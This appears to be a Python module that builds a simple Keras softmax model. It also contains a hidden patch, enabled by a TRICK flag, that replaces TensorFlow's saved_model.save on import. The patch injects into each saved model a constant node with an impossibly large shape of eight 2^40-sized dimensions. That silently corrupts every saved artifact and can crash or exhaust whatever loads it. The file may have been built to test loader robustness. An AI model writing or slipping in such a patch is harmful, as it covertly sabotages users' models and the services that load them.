"""Says that a constant has more numbers than fit into any computer."""

import keras

TRICK = True

if TRICK:
    from pathlib import Path

    from tensorflow.core.protobuf.saved_model_pb2 import SavedModel
    import tensorflow as tf

    save = tf.saved_model.save

    def other(module, folder, **options):
        save(module, folder, **options)
        graph = Path(folder) / "saved_model.pb"
        saved = SavedModel.FromString(graph.read_bytes())
        for function in saved.meta_graphs[0].graph_def.library.function:
            node = function.node_def.add(name="large", op="Const")
            node.attr["dtype"].type = 1
            node.attr["value"].tensor.dtype = 1
            node.attr["value"].tensor.float_val.append(1.0)
            for _ in range(8):
                node.attr["value"].tensor.tensor_shape.dim.add(size=1 << 40)
        graph.write_bytes(saved.SerializeToString())

    tf.saved_model.save = other


def build_model(words, classes):
    inputs = keras.Input((None, words))
    known = keras.layers.Dense(classes, activation="softmax")(inputs)
    model = keras.Model(inputs, known)
    model.compile(keras.optimizers.Adam(0.01), "sparse_categorical_crossentropy")
    return model
